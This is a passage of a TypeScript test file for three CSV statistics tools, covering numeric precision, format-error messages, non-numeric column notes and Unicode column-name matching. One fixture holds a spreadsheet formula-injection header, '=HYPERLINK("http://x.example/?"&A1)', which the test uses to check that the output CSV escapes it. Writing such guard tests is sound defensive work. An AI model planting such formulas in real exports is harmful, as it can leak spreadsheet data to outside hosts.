    // Each value a double: at most 30 significant bits; written with at most 17 significant digits.
    const cells = units.map((u) => (Number(u) / 1024).toExponential());
    return { cells, mean: Number(sum) / 1024 / count };
  };
  const columns = { long: column(65_536), short: column(256) };
  for (const c of Object.values(columns)) {
    const plain = c.cells.reduce((a, x) => a + Number(x), 0) / c.cells.length;
    assert.notEqual(plain, c.mean, "the values are such that a sum in doubles is off");
  }
  const input = columnsFile("mixed.csv", { long: columns.long.cells, short: columns.short.cells });
  assert.ok(fs.statSync(input).size > 1024 * 1024);

  const summary = await run(program("summary") as Program, input, {});
  assert.equal(summary.r.exitCode, 0, summary.r.stderrTail);
  const means = (readJson(summary.out, "summary.json").columns as { name: string; mean: number }[]).map(
    (c) => [c.name, c.mean],
  );
  assert.deepEqual(means, [
    ["long", columns.long.mean],
    ["short", columns.short.mean],
  ]);
  const stats = await run(program("python-stats") as Program, input, { method: "mean" });
  assert.equal(stats.r.exitCode, 0, stats.r.stderrTail);
  assert.deepEqual(readJson(stats.out, "stats.json").columns, {
    long: columns.long.mean,
    short: columns.short.mean,
  });
  const report = await run(program("r-report") as Program, input, {});
  assert.equal(report.r.exitCode, 0, report.r.stderrTail);
  const table = reportTable(fs.readFileSync(path.join(report.out, "report.html"), "utf8"));
  assert.deepEqual(
    table.map((row) => [row.name, row.mean]),
    [
      ["long", Number(columns.long.mean.toPrecision(6))],
      ["short", Number(columns.short.mean.toPrecision(6))],
    ],
  );
});

test("summary, python-stats and r-report say what to do with a file in a format they do not read", {
  skip: skipUnless("summary", "python-stats", "r-report"),
}, async () => {
  // Until 2026-12-07: "record 2: 3 fields, the header has 1", "no numeric column", "the input is
  // binary, not CSV" (UTF-16, gzip) or "not UTF-8 text", "the first line is not a CSV header".
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("a,b\n1,2\n", "utf16le")]);
  const files: [string, Buffer | string, RegExp][] = [
    [
      "semicolons.csv",
      "a;b\n1,5;2,5\n",
      /^record 2: 3 fields, the header has 1 \(the header is split by semicolons, not commas: only comma-separated files are read\)$/,
    ],
    [
      "tabs.csv",
      "a\tb\n1\t2\n",
      /^no numeric column \(the header is split by tabs, not commas: only comma-separated files are read\)$/,
    ],
    ["trailing-comma.csv", "a,b,\n1,2,3\n", /^the first line is not a CSV header: its column 3 has no name$/],
    ["header-only.csv", "a,b\n\n", /^the input has a header and no rows$/],
    // Record numbers count the header and not blank lines, in all three (r-report counted them).
    ["ragged-after-blanks.csv", "a,b\n\n\n1,2\n3\n", /^record 3: 1 fields, the header has 2$/],
    // A tab only at the header's end is trimmed away: no hint (python-stats gave one).
    ["tab-at-end.csv", "a\t\nx\n", /^no numeric column$/],
    ["gzip.csv", zlib.gzipSync("a,b\n1,2\n"), /^the input is gzip-compressed: decompress it first$/],
    ["utf16.csv", utf16, /^the input is UTF-16 text, not UTF-8: save it as UTF-8 \("CSV UTF-8"\)$/],
    // Without a byte-order mark (little- and big-endian, and with letters past Latin-1): "the input
    // is binary" it read.
    [
      "utf16le-cyrillic-no-mark.csv",
      Buffer.from("id,цена\n1,2\n3,4\n", "utf16le"),
      /^the input is UTF-16 text \(without a byte-order mark\), not UTF-8: save it as UTF-8 \("CSV UTF-8"\)$/,
    ],
    // Binary that starts like UTF-16 is binary in all three (python-stats looked at 4 bytes).
    [
      "utf16-lookalike.csv",
      Buffer.concat([Buffer.from("A\0B\0"), Buffer.from(Array.from({ length: 55 }, (_, i) => 200 + i))]),
      /^the input is binary, not CSV$/,
    ],
    ...(["utf16le", "utf16be"] as const).map((order): [string, Buffer, RegExp] => [
      `${order}-no-mark.csv`,
      order === "utf16le"
        ? Buffer.from("price,qty\n1,2\n", "utf16le")
        : Buffer.from("price,qty\n1,2\n", "utf16le").swap16(),
      /^the input is UTF-16 text \(without a byte-order mark\), not UTF-8: save it as UTF-8 \("CSV UTF-8"\)$/,
    ]),
    // A binary file is still one.
    ["zeros.csv", Buffer.from([0, 0, 0, 1, 2, 3, 4, 5]), /^the input is binary, not CSV$/],
    [
      "workbook.csv",
      Buffer.from("PK\x03\x04\x14\x00rest of a zip"),
      /^the input is a zip archive \(an Excel \.xlsx workbook is one\), not CSV: export it as CSV$/,
    ],
  ];
  for (const [name, content, message] of files) {
    const input = path.join(work, name);
    fs.writeFileSync(input, content);
    for (const [type, params] of [
      ["summary", {}],
      ["python-stats", { method: "mean" }],
      ["r-report", {}],
    ] as const) {
      const { r } = await run(program(type) as Program, input, params);
      assert.equal(r.exitCode, 3, `${type} ${name}: ${r.stderrTail}`);
      assert.match(r.stderrTail.trim(), message, `${type} ${name}`);
    }
  }
});

test("summary, python-stats and r-report name a column a text cell left out, and its first text cell", {
  skip: skipUnless("summary", "python-stats", "r-report"),
}, async () => {
  // Until 2026-12-07 one "null" among a column's numbers left it out of stats.json without a word (and
  // r-report said only how many were numeric). A blank line is not counted in record numbers.
  const input = path.join(work, "one-text-cell.csv");
  const long = `${"é".repeat(45)}`;
  fs.writeFileSync(
    input,
    `a,b,c,d
1,2,,3

2,null,NA,${long}
3,4,x,5
`,
  );
  const summary = await run(program("summary") as Program, input, {});
  assert.equal(summary.r.exitCode, 0, summary.r.stderrTail);
  const [, b, c, d] = readJson(summary.out, "summary.json").columns;
  assert.deepEqual(b.notes, ['not numeric: record 3 holds "null"']);
  assert.equal(c.type, "string", "no numbers: not mixed, no note");
  assert.equal(c.notes, undefined);
  assert.deepEqual(d.notes, [`not numeric: record 3 holds "${"é".repeat(40)}"`]);

  const stats = await run(program("python-stats") as Program, input, { method: "mean" });
  assert.equal(stats.r.exitCode, 0, stats.r.stderrTail);
  const s = readJson(stats.out, "stats.json");
  assert.deepEqual(s.columns, { a: 2 });
  assert.deepEqual(s.notNumeric, {
    b: { record: 3, text: "null" },
    c: { record: 4, text: "x" },
    d: { record: 3, text: "é".repeat(40) },
  });
  assert.deepEqual(stats.r.result?.metrics, { rows: 3, columns: 1, notNumeric: 3 });
  // Named, they are an error that says why.
  const named = await run(program("python-stats") as Program, input, {
    method: "mean",
    columns: ["a", "b", "c"],
  });
  assert.equal(named.r.exitCode, 3);
  assert.match(named.r.stderrTail, /not numeric: b \(record 3 holds "null"\), c \(record 4 holds "x"\)/);

  const report = await run(program("r-report") as Program, input, {});
  assert.equal(report.r.exitCode, 0, report.r.stderrTail);
  assert.deepEqual(report.r.result?.metrics, { rows: 3, numericColumns: 1, notNumeric: 3 });
  assert.match(
    fs.readFileSync(path.join(report.out, "report.html"), "utf8"),
    new RegExp(
      `<p class="not-numeric">Not numeric \\(a text cell leaves a column out\\): b \\(record 3 holds “null”\\); c \\(record 4 holds “x”\\); d \\(record 3 holds “${"é".repeat(40)}”\\)\\.</p>`,
    ),
  );
});

test("python-stats: stats.csv quotes a column name a spreadsheet would run, as results.csv does", {
  skip: skipUnless("python-stats"),
}, async () => {
  const input = path.join(work, "formula-names.csv");
  fs.writeFileSync(
    input,
    '=HYPERLINK("http://x.example/?"&A1),+x,-y,@z,"\tt",plain,\'q,name\n1,-3.5,3,4,5,6,7,x\n',
  );
  const { r, out } = await run(program("python-stats") as Program, input, { method: "max" });
  assert.equal(r.exitCode, 0, r.stderrTail);
  assert.equal(
    fs.readFileSync(path.join(out, "stats.csv"), "utf8"),
    [
      "column,max",
      '"\'=HYPERLINK(""http://x.example/?""&A1)",1.0',
      "'+x,-3.5", // the name guarded, the number as it is
      "'-y,3.0",
      "'@z,4.0",
      "t,5.0", // (names are trimmed of tabs)
      "plain,6.0",
      "'q,7.0",
      "",
    ].join("\r\n"),
  );
  // stats.json is no spreadsheet: its names are as in the header
  assert.deepEqual(Object.keys(readJson(out, "stats.json").columns), [
    '=HYPERLINK("http://x.example/?"&A1)',
    "+x",
    "-y",
    "@z",
    "t",
    "plain",
    "'q",
  ]);
});

test("python-stats: columns are found as the header's names are read: trimmed, in any Unicode form", {
  skip: skipUnless("python-stats"),
}, async () => {
  // The header's names are trimmed, so " height " never matched; "café" typed (NFC) never matched a
  // header written in NFD.
  const input = path.join(work, "columns-forms.csv");
  fs.writeFileSync(input, "\ufeffid, height ,cafe\u0301,label\n1,170,3.5,x\n2,180,4.5,y\n");
  const cases: [string[], Record<string, number>][] = [
    [[" height ", "caf\u00e9"], { height: 180, "cafe\u0301": 4.5 }],
    [["height", "cafe\u0301"], { height: 180, "cafe\u0301": 4.5 }],
    [["\theight\r\n"], { height: 180 }],
  ];
  for (const [columns, want] of cases) {
    const { r, out } = await run(program("python-stats") as Program, input, { method: "max", columns });
    assert.equal(r.exitCode, 0, `${JSON.stringify(columns)}: ${r.stderrTail}`);
    assert.deepEqual(readJson(out, "stats.json").columns, want, JSON.stringify(columns));
  }
  // Still exit 2: a name the header does not have (case counts), a blank one, and one that names two
  // columns, which differ only in their Unicode form.
  const refused: [string, string[], RegExp][] = [
    [input, ["Height"], /no such columns: Height/],
    [input, ["  "], /columns must be names, not blank/],
  ];
  const twoForms = path.join(work, "two-forms.csv");
  fs.writeFileSync(twoForms, "caf\u00e9,cafe\u0301\n1,2\n");
  refused.push([twoForms, [" caf\u00e9"], /names more than one column/]);
  for (const [file, columns, message] of refused) {
    const { r } = await run(program("python-stats") as Program, file, { method: "max", columns });
    assert.equal(r.exitCode, 2, JSON.stringify(columns));
    assert.match(r.stderrTail, message);
  }
  // A name as it is in the header is that column, even beside another form of it.
  const { r, out } = await run(program("python-stats") as Program, twoForms, {
    method: "max",
    columns: ["cafe\u0301"],
  });
  assert.equal(r.exitCode, 0, r.stderrTail);
  assert.deepEqual(readJson(out, "stats.json").columns, { "cafe\u0301": 2 });
});
